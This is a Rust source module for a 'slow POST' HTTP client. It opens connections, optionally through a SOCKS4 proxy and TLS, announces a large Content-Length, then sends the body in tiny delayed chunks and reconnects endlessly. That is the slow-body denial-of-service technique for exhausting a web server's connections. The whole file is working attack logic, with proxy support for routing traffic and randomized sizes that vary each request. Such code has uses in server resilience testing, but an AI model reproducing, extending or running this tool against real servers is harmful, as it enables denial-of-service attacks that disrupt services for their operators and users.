//! Slow POST client
//!
//! One client drives one connection at a time through
//!
//! ```text
//! Connecting ──► ProxyHandshake ──► TlsHandshake ──► Streaming
//!      ▲          (if proxied)      (if TLS)            │
//!      └─────────────── ReconnectWait ◄─────────────────┘
//! ```
//!
//! Every attempt draws a fresh body size, announces it in `Content-Length`
//! and then sends the body in randomly sized chunks. The next chunk goes out
//! only after the previous one has drained into the socket *and* the body
//! send delay has elapsed, so the kernel send buffer never soaks up the
//! whole body at once.

mod disconnect;
mod pacing;
mod request;
mod timer;

pub use disconnect::Disconnect;
pub use pacing::SizeRange;
pub use request::{request_head, LineEnding, BODY_FILLER};
pub use timer::{Timer, TimerKind};

use crate::config::ClientConfig;
use crate::proxy::socks4;
use crate::transport::Transport;
use bytes::{Bytes, BytesMut};
use rand::rngs::StdRng;
use rand::SeedableRng;
use std::fmt;
use std::time::Duration;
use tracing::{debug, info, trace, warn};

/// Connection phase
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Phase {
    Connecting,
    ProxyHandshake,
    TlsHandshake,
    Streaming,
    ReconnectWait,
}

impl fmt::Display for Phase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            Phase::Connecting => "connecting",
            Phase::ProxyHandshake => "proxy handshake",
            Phase::TlsHandshake => "TLS handshake",
            Phase::Streaming => "streaming",
            Phase::ReconnectWait => "reconnect wait",
        };
        f.write_str(name)
    }
}

/// Mutable per-client state, re-initialized on every connection attempt
#[derive(Debug)]
pub struct ClientState {
    phase: Phase,
    body_size: usize,
    remaining: BytesMut,
    connected: bool,
    reconnect: Timer,
    pacing: Timer,
}

impl ClientState {
    fn new() -> Self {
        Self {
            phase: Phase::Connecting,
            body_size: 0,
            remaining: BytesMut::new(),
            connected: false,
            reconnect: Timer::new(TimerKind::Reconnect),
            pacing: Timer::new(TimerKind::Pacing),
        }
    }

    fn reset(&mut self, body_size: usize) {
        self.phase = Phase::Connecting;
        self.body_size = body_size;
        self.remaining.clear();
        self.remaining.resize(body_size, BODY_FILLER);
        self.connected = false;
    }

    /// Take up to `size` bytes off the front of the remaining body
    fn take_chunk(&mut self, size: usize) -> Bytes {
        let size = size.min(self.remaining.len());
        self.remaining.split_to(size).freeze()
    }

    pub fn phase(&self) -> Phase {
        self.phase
    }

    pub fn body_size(&self) -> usize {
        self.body_size
    }

    pub fn remaining(&self) -> usize {
        self.remaining.len()
    }

    /// Always derived from the remaining body, never tracked separately
    pub fn bytes_sent(&self) -> usize {
        self.body_size - self.remaining.len()
    }

    pub fn is_connected(&self) -> bool {
        self.connected
    }

    pub fn reconnect_timer(&self) -> &Timer {
        &self.reconnect
    }

    pub fn pacing_timer(&self) -> &Timer {
        &self.pacing
    }
}

/// A single slow POST client
pub struct Client<T: Transport> {
    config: ClientConfig,
    state: ClientState,
    transport: T,
    rng: StdRng,
}

impl<T: Transport> Client<T> {
    pub fn new(config: ClientConfig, transport: T) -> Self {
        Self {
            config,
            state: ClientState::new(),
            transport,
            rng: StdRng::from_entropy(),
        }
    }

    /// Replace the size-draw generator, mostly for reproducible runs
    pub fn with_rng(mut self, rng: StdRng) -> Self {
        self.rng = rng;
        self
    }

    pub fn name(&self) -> &str {
        &self.config.name
    }

    pub fn config(&self) -> &ClientConfig {
        &self.config
    }

    pub fn state(&self) -> &ClientState {
        &self.state
    }

    pub fn phase(&self) -> Phase {
        self.state.phase
    }

    pub fn body_size(&self) -> usize {
        self.state.body_size
    }

    pub fn bytes_sent(&self) -> usize {
        self.state.bytes_sent()
    }

    /// Connect, stream, wait, repeat. Never returns.
    pub async fn run(mut self) {
        loop {
            let disconnect = self.connect().await;
            self.enter_reconnect_wait(&disconnect).await;
            self.state.reconnect.fired().await;
        }
    }

    /// Run one connection attempt until it ends
    pub async fn connect(&mut self) -> Disconnect {
        self.state.reconnect.cancel();
        let body_size = self.config.body_size.sample(&mut self.rng);
        self.state.reset(body_size);
        debug!(client = %self.config.name, "Connecting (body size {} bytes)", body_size);

        match self.establish().await {
            Ok(()) => self.stream_body().await,
            Err(disconnect) => disconnect,
        }
    }

    /// Cancel pacing, drop the connection and arm the reconnect timer.
    /// Returns the reconnect delay.
    pub async fn enter_reconnect_wait(&mut self, disconnect: &Disconnect) -> Duration {
        self.state.pacing.cancel();
        self.state.connected = false;
        self.set_phase(Phase::ReconnectWait);
        self.transport.close().await.ok();

        let delay = disconnect.reconnect_delay(self.config.connection_delay);
        let name = &self.config.name;
        let sent = self.state.bytes_sent();
        let total = self.state.body_size;

        match disconnect {
            Disconnect::Completed => {
                info!(client = %name, "Body complete, {} bytes sent. Reconnecting in {:?}", total, delay);
            }
            Disconnect::Failed(err) => {
                warn!(
                    client = %name,
                    "Connection error: {} ({} of {} bytes sent). Reconnecting in {:?}",
                    err, sent, total, delay
                );
            }
            Disconnect::ProxyRejected(status) => {
                warn!(
                    client = %name,
                    "Proxy rejected request with status {} ({}). Reconnecting in {:?}",
                    status,
                    socks4::describe_status(*status),
                    delay
                );
            }
            Disconnect::Closed => {
                info!(
                    client = %name,
                    "Connection closed by server ({} of {} bytes sent). Reconnecting in {:?}",
                    sent, total, delay
                );
            }
        }

        self.state.reconnect.start(delay);
        delay
    }

    fn set_phase(&mut self, phase: Phase) {
        trace!(client = %self.config.name, "{} -> {}", self.state.phase, phase);
        self.state.phase = phase;
    }

    /// Open the transport and run the optional proxy and TLS handshakes
    async fn establish(&mut self) -> Result<(), Disconnect> {
        let addr = self.config.connect_addr();
        self.transport.connect(&addr).await?;

        if self.config.proxy.is_some() {
            self.set_phase(Phase::ProxyHandshake);
            socks4::connect(&mut self.transport, &self.config.host, self.config.port).await?;
        }

        self.state.connected = true;
        info!(client = %self.config.name, "Connected to {}", addr);

        if self.config.tls {
            self.set_phase(Phase::TlsHandshake);
            self.transport.upgrade_tls(&self.config.host).await?;
            debug!(client = %self.config.name, "TLS handshake complete");
        }

        Ok(())
    }

    /// Send the head once, then trickle the body
    async fn stream_body(&mut self) -> Disconnect {
        self.set_phase(Phase::Streaming);

        let head = request_head(
            &self.config.host,
            &self.config.path,
            self.config.user_agent.as_deref(),
            self.state.body_size,
            self.config.line_ending,
        );
        if let Err(err) = self.transport.send(head.as_bytes()).await {
            return err.into();
        }

        loop {
            if self.state.remaining.is_empty() {
                return Disconnect::Completed;
            }

            let size = self.config.chunk_size.sample(&mut self.rng);
            let chunk = self.state.take_chunk(size);
            if let Err(err) = self.transport.send(&chunk).await {
                return err.into();
            }
            trace!(
                client = %self.config.name,
                "Sent {} bytes, {} of {} total",
                chunk.len(),
                self.state.bytes_sent(),
                self.state.body_size
            );

            self.state.pacing.start(self.config.body_send_delay);
            tokio::select! {
                biased;
                disconnect = watch_for_close(&mut self.transport) => return disconnect,
                () = self.state.pacing.fired() => {}
            }
        }
    }
}

/// Discard anything the server sends until the stream ends or fails
async fn watch_for_close<T: Transport + ?Sized>(transport: &mut T) -> Disconnect {
    let mut scratch = [0u8; 1024];
    loop {
        match transport.recv(&mut scratch).await {
            Ok(n) => trace!("Discarded {} response bytes", n),
            Err(err) => return err.into(),
        }
    }
}
